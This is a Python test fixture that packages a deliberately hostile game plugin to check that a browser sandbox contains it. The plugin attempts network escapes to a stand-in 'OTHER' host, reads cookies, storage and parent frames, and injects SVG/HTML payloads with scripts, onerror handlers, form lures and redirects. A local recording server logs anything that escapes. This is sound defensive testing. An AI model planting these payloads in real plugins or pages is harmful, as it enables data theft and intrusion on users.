"""A malicious game that tries to escape from its sandbox, and a server that records what gets out."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import NamedTuple

from tests.support import fixture_wheels

ATTEMPTS = 42  # the number of attempts that report a result

# The script of two nested workers, a classic one and a module worker: the attempts that they make. They start from data
# URLs, which the policy of the sandbox allows.
INNER = """
const events = (target) =>
  new Promise((yes, no) => Object.assign(target, { onopen: yes, onmessage: yes, onerror: no }));
const tries = {
  fetch: () => fetch("OTHER/inner", { mode: "no-cors" }),
  events: () => events(new EventSource("OTHER/events")),
  socket: () => events(new WebSocket("OTHER/socket".replace("http", "ws"))),
  stream: () => new WebSocketStream("OTHER/stream".replace("http", "ws")).opened,
  transport: () => new WebTransport("OTHER/".replace("http:", "https:")).ready,
  peer: () => new RTCPeerConnection({ iceServers: [{ urls: "stun:STUN" }] }).createDataChannel("x"),
  module: () => import("OTHER/module.js"),
  scripts: () => importScripts("OTHER/scripts.js"),
  worker: () => events(new Worker("OTHER/worker.js")),
  remote: () => events(new Worker("data:text/javascript,import 'OTHER/remote.js'; postMessage(1)", { type: "module" })),
  address: () => events(new Worker("SITE/embed.js")),
  files: () => navigator.storage.getDirectory(),
  cookies: () => cookieStore.getAll().then(({ length }) => length || Promise.reject()),
  beside: () => fetch("SITE/../beside.html", { mode: "no-cors" }),
};
for (const [name, attempt] of Object.entries(tries))
  Promise.resolve().then(attempt).then(() => postMessage([name, "reached"]), () => postMessage([name, "kept out"]));
"""

# The game's attempts when it is imported, and the harmful markup that it adds to its drawings.
SPY = """
import js
from pyodide.ffi import create_proxy, to_js
from pygames.render import svg

RESULTS = {}
PROXIES = []


def attempt(name, action):
    try:
        result = action()
    except BaseException:
        RESULTS[name] = "kept out"
        return
    if not hasattr(result, "then"):
        RESULTS[name] = "reached"
        return
    RESULTS[name] = "waiting"
    record = lambda outcome: create_proxy(lambda *_: RESULTS.__setitem__(name, outcome))
    handlers = [record("reached"), record("kept out")]
    PROXIES.extend(handlers)
    result.then(*handlers)


def object(**fields):
    return to_js(fields, dict_converter=js.Object.fromEntries)


@create_proxy
def require_own_cache(names):
    assert "mine" in names.to_py()


with_cookies = object(credentials="include")
no_cors = object(mode="no-cors")
attempt("indexedDB", lambda: js.indexedDB.open("pygames").result)
attempt("databases", lambda: js.indexedDB.databases())
attempt("caches", lambda: js.caches.keys().then(require_own_cache))  # WebKit gives opaque origins a cache of their own
attempt("localStorage", lambda: js.localStorage.setItem("spy", "1"))
attempt("document", lambda: js.document.title)
attempt("parent", lambda: js.parent.document.title)
attempt("top", lambda: js.top.location.href)
attempt("files", lambda: js.navigator.storage.getDirectory())
attempt("site with cookies", lambda: js.fetch("SITE/index.html", with_cookies))
attempt("elsewhere", lambda: js.fetch("OTHER/fetched"))
attempt("elsewhere, blind", lambda: js.fetch("OTHER/blind", no_cors))
attempt("eval", lambda: js.eval("1"))
attempt("peer", lambda: js.RTCPeerConnection.new())


def request():
    xhr = js.XMLHttpRequest.new()
    xhr.open("GET", "OTHER/requested", False)
    xhr.send()


def inner(kind):
    worker = js.Worker.new("data:text/javascript," + js.encodeURIComponent(INNER), object(type=kind))
    receive = create_proxy(lambda event: RESULTS.__setitem__(f"{kind} {event.data[0]}", event.data[1]))
    PROXIES.extend([worker, receive])
    worker.onmessage = receive


def persist(*_):
    # One worker at a time. Under load, Firefox may never return from the constructor of a second worker while the first
    # one starts, and then the start of the game would never end. It may also drop a worker, without an error.
    for kind in ("classic", "module"):
        if not any(name.startswith(kind) for name in RESULTS):
            return inner(kind)


attempt("request", request)
persist()
js.setInterval(create_proxy(persist), 2000)
js.postMessage(object(type="plugin:report", told=object(game="x", title="<b>spy</b>", link="", where="")))
js.postMessage(object(id="1", type="RAW"))

EVIL = (
    "<script>parent.postMessage('ran', '*')</script><image href='OTHER/image.png' onerror='parent.postMessage(1)'/>"
    "<foreignObject><img src='OTHER/img.png'/><iframe src='OTHER/frame'></iframe>"
    "<a id='lure' href='OTHER/clicked'>x</a>"
    "<link rel='stylesheet' href='OTHER/style.css'/>"
    "<link rel='preconnect' href='OTHER'/><form action='OTHER/form'><button id='trap'>x</button></form>"
    "</foreignObject></svg>"
)
AWAY = "<meta http-equiv='refresh' content='0;url=OTHER/away'/>"
drawing = svg.drawing


def drawing_with_attacks(scene, *options):
    redirect = AWAY if "for seat" in scene.title else ""
    evil = EVIL.replace("</foreignObject>", redirect + "</foreignObject>")
    return drawing(scene, *options).removesuffix("</svg>") + evil


svg.drawing = drawing_with_attacks
"""

# Another script for the game: it crashes its worker without a message, so that the page might restart the game on the
# main thread. If the script ever runs there, it marks the page and opens a WebRTC connection.
RUNAWAY = """
import js
from pyodide.ffi import create_proxy, to_js


def crash(*_):
    raise RuntimeError("crash")


if hasattr(js, "document"):
    js.document.documentElement.dataset.runaway = "here"
    servers = to_js({"iceServers": [{"urls": "stun:STUN"}]}, dict_converter=js.Object.fromEntries)
    peer = js.RTCPeerConnection.new(servers)
    peer.createDataChannel("x")
    peer.createOffer().then(peer.setLocalDescription)
else:
    js.self.postMessage = create_proxy(lambda *_: None)
    js.setTimeout(create_proxy(crash), 0)
RESULTS = {}
"""


class OtherServer(NamedTuple):
    """An HTTP server and a UDP socket on another origin that record everything they receive."""

    address: str
    stun: str  # host and port for datagrams
    received: list[str]  # requested paths, connections and datagrams


@contextmanager
def recording_server() -> Iterator[OtherServer]:
    """Run an HTTP server and a UDP socket on another origin, and record everything they receive."""
    received: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # other methods are recorded by send_error
            received.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Content-Length", "0")
            self.end_headers()

        def send_error(self, *args: object, **options: object) -> None:
            received.append(self.requestline)
            super().send_error(501)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # the name in the base class
            pass

    class Server(ThreadingHTTPServer):
        def process_request(self, request: socket.socket | tuple[bytes, socket.socket], address: object) -> None:
            received.append("a connection")
            super().process_request(request, address)

    def receive(datagrams: socket.socket) -> None:
        while datagrams.recv(2000) != b"enough":
            received.append("a datagram")

    with Server(("127.0.0.1", 0), Handler) as server, socket.socket(type=socket.SOCK_DGRAM) as datagrams:
        datagrams.bind(("127.0.0.1", 0))
        address: tuple[str, int] = datagrams.getsockname()
        receiver = threading.Thread(target=receive, args=(datagrams,))
        receiver.start()
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield OtherServer(f"http://127.0.0.1:{server.server_port}", f"127.0.0.1:{address[1]}", received)
        finally:
            server.shutdown()
            datagrams.sendto(b"enough", address)
            receiver.join()


def wheel(folder: Path, site: str, other: OtherServer, spy: str = SPY) -> Path:
    """Build a wheel of the null game that runs the script `spy` when it is imported, and return its path.

    The words SITE, OTHER and STUN in the script are replaced by addresses. The prompt shows RESULTS as JSON.
    """
    source = {path.name: path.read_text(encoding="utf-8") for path in fixture_wheels.NULL_GAME.glob("*.py")}
    prompt = 'return _("Say nothing, or nod.")'
    source["sentences.py"] = source["sentences.py"].replace(prompt, "return json.dumps(spy.RESULTS)")
    source["sentences.py"] += "\nimport json\nfrom . import spy\n"
    source["game.py"] = source["game.py"].replace('id = "null-game"', 'id = "hostile"') + "\nfrom . import spy\n"
    spy = f"INNER = {INNER!r}\n{spy}"
    source["spy.py"] = spy.replace("SITE", site).replace("OTHER", other.address).replace("STUN", other.stun)
    modules = {f"hostile/{name}": text for name, text in source.items()}
    return fixture_wheels.write_wheel(folder, "hostile", {"hostile": "hostile.game:GAME"}, modules)
